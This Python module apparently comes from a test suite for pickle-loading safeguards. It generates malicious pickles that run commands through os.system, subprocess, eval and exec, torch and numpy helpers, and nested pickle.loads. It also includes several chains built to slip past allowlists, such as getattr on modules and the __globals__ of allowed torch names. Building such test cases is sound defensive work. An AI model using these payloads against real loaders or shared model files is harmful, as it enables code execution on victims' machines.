"""Pickles that ask for names which run something: each is a bare `.pkl`."""

import pickle

from attacks.attack import COMMAND, MARKER, SOURCE, Attack, of_bytes
from hostile import binary, call, mapping, name, program, string

INNER = pickle.dumps(0, 2)[:2] + call("os.system", string(COMMAND)) + pickle.STOP
"""A whole pickle with the payload, for loaders that are asked to load another one."""
LIVE = {
    "posix.system": [string(COMMAND)],
    "os.system": [string(COMMAND)],
    "os.popen": [string(COMMAND)],
    "os.mkdir": [string(MARKER)],
    "subprocess.getoutput": [string(COMMAND)],
    "subprocess.call": [pickle.MARK + string("touch") + string(MARKER) + pickle.LIST],
    "subprocess.check_output": [pickle.MARK + string("touch") + string(MARKER) + pickle.LIST],
    "commands.getoutput": [string(COMMAND)],  # Python 2's spelling, which old protocols translate
    "builtins.eval": [string(f"__import__('os').system({COMMAND!r})")],
    "builtins.exec": [string(SOURCE)],
    "__builtin__.eval": [string(f"__import__('os').system({COMMAND!r})")],
    "builtins.open": [string(MARKER), string("w")],
    "io.open": [string(MARKER), string("w")],
    "shutil.copy": [string("attack.pkl"), string(MARKER)],
    "timeit.timeit": [string(SOURCE), string("pass")],
    "cProfile.run": [string(SOURCE)],
    "pickle.loads": [binary(INNER)],
    "_pickle.loads": [binary(INNER)],
    "torch.storage._load_from_bytes": [binary(INNER)],
    "torch.utils.collect_env.run": [string(COMMAND)],
    "numpy.testing._private.utils.runstring": [string(SOURCE), pickle.EMPTY_DICT],
    "pydoc.pipepager": [string("x"), string(COMMAND)],
    "logging.FileHandler": [string(MARKER)],
    "torch._tensor._rebuild_from_type_v2": [
        name("os.system"),
        name("builtins.int"),
        pickle.MARK + string(COMMAND) + pickle.TUPLE,
        pickle.NONE,
    ],
}
"""Names and arguments that run the payload in Python's own loader."""
OTHER = {
    "nt.system": [string(COMMAND)],
    "runpy.run_path": [string("payload.py")],
    "runpy.run_module": [string("payload")],
    "ctypes.CDLL": [string("./payload.so")],
    "webbrowser.open": [string("file:///ran")],
    "torch.hub.load": [string("user/repo"), string("model")],
    "torch.load": [string("payload.pt")],
    "torch.jit.load": [string("payload.pt")],
    "torch.ops.load_library": [string("./payload.so")],
    "torch.utils.cpp_extension.load_inline": [string("x"), string("int x;")],
    "numpy.load": [string("payload.npy")],
    "numpy.core.multiarray.fromfile": [string("/etc/hostname")],
    "socket.create_connection": [pickle.MARK + string("127.0.0.1") + pickle.BININT1 + b"\x09" + pickle.TUPLE],
    "urllib.request.urlopen": [string("http://127.0.0.1:9/")],
    "marshal.loads": [binary(b"\xe3")],
    "types.CodeType": [],
    "pty.spawn": [string("touch")],
    "os.kill": [pickle.BININT1 + b"\0", pickle.BININT1 + b"\0"],
    "sys.exit": [pickle.BININT1 + b"\0"],
    "gc.get_objects": [],
    "copyreg.add_extension": [string("os"), string("system"), pickle.BININT1 + b"\1"],
    "builtins.__import__": [string("antigravity")],
    "importlib.import_module": [string("this")],
    "dnnlib.util.open_url": [string("http://127.0.0.1:9/")],
    "torch_utils.persistence.import_hook": [],
    "__main__.Generator": [],
}
"""Names that would do something else, need another file, or do not exist here."""


def _system() -> bytes:
    """`os.system`, fetched as an attribute of the module, so that its name is never asked for."""
    return call("builtins.getattr", call("builtins.__import__", string("os")), string("system"))


ARGS = pickle.MARK + string(COMMAND) + pickle.TUPLE
CHAINS = {
    "getattr of a module": program(_system() + ARGS + pickle.REDUCE),
    "operator.attrgetter": program(
        call("operator.attrgetter", string("system")) + pickle.MARK + call("builtins.__import__", string("os")) + pickle.TUPLE,
        pickle.REDUCE + ARGS + pickle.REDUCE,
    ),
    "operator.methodcaller": program(
        call("operator.methodcaller", string("system"), string(COMMAND))
        + pickle.MARK
        + call("importlib.import_module", string("os"))
        + pickle.TUPLE
        + pickle.REDUCE
    ),
    "functools.partial": program(
        call("functools.partial", name("os.system"), string(COMMAND)) + pickle.EMPTY_TUPLE, pickle.REDUCE
    ),
    "functools.reduce": program(
        call("functools.reduce", name("os.system"), pickle.MARK + string(COMMAND) + pickle.LIST),
        call("builtins.list", call("builtins.map", name("os.system"), pickle.MARK + string(COMMAND) + pickle.LIST)),
    ),
    "a dotted attribute": program(
        string("torch.serialization") + string("os.system") + pickle.STACK_GLOBAL + ARGS + pickle.REDUCE, protocol=4
    ),
    "the globals of an allowed name": program(
        string("torch._utils") + string("_rebuild_tensor_v2.__globals__") + pickle.STACK_GLOBAL,
        pickle.POP + name("os.system") + ARGS + pickle.REDUCE,
        protocol=4,
    ),
    "inside an allowed dictionary": program(
        mapping({"G_ema": call("collections.OrderedDict", _system() + ARGS + pickle.REDUCE)})
    ),
    "among the values of a defaultdict": program(
        call("collections.defaultdict", name("os.system"))[:-1] + pickle.REDUCE + INNER[2:-1]
    ),
}

ATTACKS: list[Attack] = [
    *(of_bytes(f"calls {dotted}", program(call(dotted, *args)), "attack.pkl", live=True) for dotted, args in LIVE.items()),
    *(of_bytes(f"calls {dotted}", program(call(dotted, *args)), "attack.pkl") for dotted, args in OTHER.items()),
    *(of_bytes(f"calls through {what}", data, "attack.pkl", live=True) for what, data in CHAINS.items()),
]
